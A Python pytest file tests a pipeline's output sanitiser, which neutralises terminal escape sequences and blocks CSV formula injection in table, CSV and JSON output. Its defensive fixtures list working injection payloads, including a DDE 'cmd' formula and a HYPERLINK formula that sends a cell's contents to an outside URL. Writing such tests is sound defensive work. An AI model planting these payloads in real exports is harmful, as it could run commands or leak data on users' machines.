"""What is printed steers no terminal and starts no formula; data stays data."""

import csv
import io
import json
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline import console
from pipeline.console import aligned, as_csv, as_text, out, out_json, out_rows, plain, say

STEERING = {
    "clear screen": "\x1b[2J",
    "title": "\x1b]0;owned\x07",
    "C1 control sequence": "\x9b2J",
    "back over it": "safe\b\b\b\bevil",
    "begin the line anew": "evil\rsafe",
    "delete": "a\x7f",
    "null": "a\x00b",
    "right to left": "\u202eevil",
    "isolate": "\u2066evil\u2069",
    "marks": "\u200e\u200f\u061c",
    "half a pair": "file\udcff",
}


@pytest.mark.parametrize("text", STEERING.values(), ids=STEERING.keys())
def test_what_steers_a_terminal_is_written_out(text: str) -> None:
    r"""As `\uXXXX`; every other letter stays."""
    shown = plain(text)

    assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F for c in shown)
    assert "\\u" in shown
    assert "evil" not in text or "evil" in shown
    shown.encode()


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_plain_text_is_not_changed(text: str) -> None:
    """Letters of any writing, tabs and ends of lines are no danger."""
    harmless = console._STEERING.sub("", text)

    assert plain(harmless) == harmless
    assert plain(plain(text)) == plain(text)


def test_data_goes_to_stdout_and_messages_to_stderr(capsys: pytest.CaptureFixture[str]) -> None:
    """Both through the same filter."""
    out("data \x1b[2J")
    say("message \x1b[2J")

    assert capsys.readouterr() == ("data \\u001b[2J\n", "message \\u001b[2J\n")


@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(), st.lists, max_leaves=5))
def test_json_is_what_it_was(value: object) -> None:
    """A reader of JSON gets every text back letter by letter, steering ones too."""
    assert json.loads(plain(json.dumps(value, ensure_ascii=False))) == value


def test_json_holds_numbers_and_times(capsys: pytest.CaptureFixture[str]) -> None:
    """Decimals are numbers, moments ISO 8601, the rest text."""
    out_json(
        {"p": Decimal("0.050000000"), "at": datetime(2022, 1, 3, tzinfo=UTC), "d": date(2022, 1, 3)}
    )

    assert json.loads(capsys.readouterr().out) == {
        "p": 0.05,
        "at": "2022-01-03T00:00:00+00:00",
        "d": "2022-01-03",
    }


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (Decimal("1.500000000"), "1.5"),
        (Decimal("-0.250000000"), "-0.25"),
        (Decimal("100.000000000"), "100"),
        (Decimal("1E+3"), "1000"),
        (Decimal("1E-9"), "0.000000001"),
        (Decimal("0E-9"), "0"),
        (datetime(2022, 1, 3, 1, 2, 3, tzinfo=UTC), "2022-01-03 01:02:03+00:00"),
        (["a", 1], "['a', 1]"),
    ],
)
def test_a_value_as_text(value: object, text: str) -> None:
    """Nothing for what is missing, and no zeros that say nothing."""
    assert as_text(value) == text


def read(text: str) -> list[list[str]]:
    """Return the cells of a CSV."""
    return list(csv.reader(io.StringIO(text, newline="")))


TEXTS = st.text().map(plain)


@given(st.lists(st.tuples(TEXTS, st.integers() | st.none()), max_size=5))
def test_a_csv_holds_every_cell(rows: list[tuple[str, int | None]]) -> None:
    """Quotes, commas and formulas included, each text as it is or behind one apostrophe."""
    header, *cells = read(as_csv(("a", "n"), rows))

    assert header == ["a", "n"]
    for (text, number), (cell, digits) in zip(rows, cells, strict=True):
        assert cell.removeprefix("'") == text.removeprefix("'")
        assert cell in {text, f"'{text}"}
        assert digits == as_text(number)


FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://example.org/?"&A1)',
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\n=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_begins_a_formula(text: str) -> None:
    """In a spreadsheet a post's text stays text, wherever it stands; so do names of columns."""
    (header, (first, last)) = read(as_csv(("k", text), [(text, text)]))

    assert header == ["k", f"'{text}"]
    assert first == last == f"'{text}"


def test_a_carriage_return_ends_no_row() -> None:
    """It is written out, like all that steers."""
    assert read(as_csv(("t",), [("a\r=1",)])) == [["t"], ["a\\u000d=1"]]


@pytest.mark.parametrize(
    ("value", "cell"), [(-5, "-5"), (Decimal("-0.500000000"), "-0.5"), (-1.5, "-1.5")]
)
def test_a_negative_number_stays_a_number(value: object, cell: str) -> None:
    """Only texts come from posts."""
    assert read(as_csv(("n",), [(value,)])) == [["n"], [cell]]


def test_texts_that_begin_otherwise_stay_as_they_are() -> None:
    """A formula begins a cell or is none."""
    texts = ["a=1", "'=1", " @x", "", "1-1", "é", "a\nb"]

    assert read(as_csv(("t",), [(t,) for t in texts])) == [["t"], *([t] for t in texts)]


ROWS: list[tuple[Any, ...]] = [("a", 1, Decimal("0.500000000")), ("long" * 30, None, Decimal(12))]


def test_numbers_stand_to_the_right_and_long_texts_are_cut() -> None:
    """A table that a person reads."""
    lines = aligned(("name", "n", "share"), ROWS).split("\n")

    assert lines[0].split() == ["name", "n", "share"]
    assert set(lines[1]) == {"-", " "}
    assert lines[2].endswith("1    0.5")
    assert lines[3].split()[0] == ("long" * 30)[:59] + "…"
    assert all(len(line) <= len(lines[1]) for line in lines)


def test_a_table_without_rows_has_its_header() -> None:
    """Nothing was found, and it says of what."""
    assert aligned(("a", "b"), []) == "a  b\n-  -"


def test_a_cell_is_one_line() -> None:
    """Ends of lines and tabs of a text do not break the table."""
    assert len(aligned(("t",), [("a\nb\tc\r",)]).split("\n")) == 3


@pytest.mark.parametrize(
    ("terminal", "as_json", "begins"),
    [(True, False, "a  b\n-"), (False, False, "a,b\n"), (False, True, "["), (True, True, "[")],
)
def test_rows_suit_who_reads_them(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    terminal: bool,  # noqa: FBT001
    as_json: bool,  # noqa: FBT001
    begins: str,
) -> None:
    """A table on a terminal, CSV in a pipe, JSON where it is asked for."""
    monkeypatch.setattr("sys.stdout.isatty", lambda: terminal)

    out_rows(("a", "b"), [(1, 2)], as_json=as_json)

    assert capsys.readouterr().out.startswith(begins)
